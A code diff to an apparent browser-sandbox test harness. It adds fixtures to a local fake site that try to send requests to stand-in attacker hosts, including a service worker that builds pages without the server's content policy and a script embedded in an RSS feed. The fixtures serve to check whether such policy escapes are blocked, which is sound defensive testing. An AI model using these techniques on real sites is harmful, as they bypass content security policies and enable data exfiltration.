@@ -22,6 +22,9 @@ LEAVING = (
     "land-on-the-deck",
     "land-on-the-neighbour",
     "leave-for-a-script",
+    "leave-backwards",
+    "leave-for-a-blob",
+    "leave-for-data",
 )
 SLIDES = {"neighbour": 1, "all": 2, "click": 3, **{name: n + 4 for n, name in enumerate(LEAVING)}}
 """Which slide shows what: the page's fragments in order, after a title and the neighbour."""
@@ -38,10 +41,22 @@ _WORKER = (
     'fetch("https://attacker.example/worker", {mode: "no-cors"})'
     '.then(() => postMessage("SENT"), () => postMessage("refused"))'
 )
-_SERVICE = (
-    'self.addEventListener("install", (event) => event.waitUntil('
-    'fetch("https://attacker.example/service", {mode: "no-cors"}).catch(() => 0)))'
-)
+_SERVICE = """
+self.addEventListener("install", (event) => event.waitUntil(
+  fetch("https://attacker.example/service", {mode: "no-cors"}).catch(() => 0)));
+// A page that it makes up comes without the policy of those that the server gives.
+self.addEventListener("fetch", (event) => {
+  if (event.request.url.endsWith("free.html")) event.respondWith(new Response(`<script>
+    fetch("https://free.attacker.example/", {mode: "no-cors"}).then(
+      () => parent.postMessage("SENT", "*"), () => parent.postMessage("refused", "*"));
+  </script>`, {headers: {"Content-Type": "text/html"}}));
+});
+"""
+_FEED = """<rss version="2.0"><channel><title>News</title>
+<script xmlns="http://www.w3.org/1999/xhtml">
+fetch("https://feed.attacker.example/", {mode: "no-cors"}).then(
+  () => parent.postMessage("SENT", "*"), () => parent.postMessage("refused", "*"));
+</script></channel></rss>"""
 
 
 @dataclass(frozen=True, slots=True)
@@ -68,6 +83,7 @@ def _web(page: str) -> LocalWeb:
         ("evil.example", "/"): ("text/html; charset=utf-8", page),
         ("evil.example", "/worker.js"): ("text/javascript", _WORKER),
         ("evil.example", "/service.js"): ("text/javascript", _SERVICE),
+        ("evil.example", "/feed.rss"): ("application/rss+xml", _FEED),
     }
 
     def answer(request: Request) -> Answer:
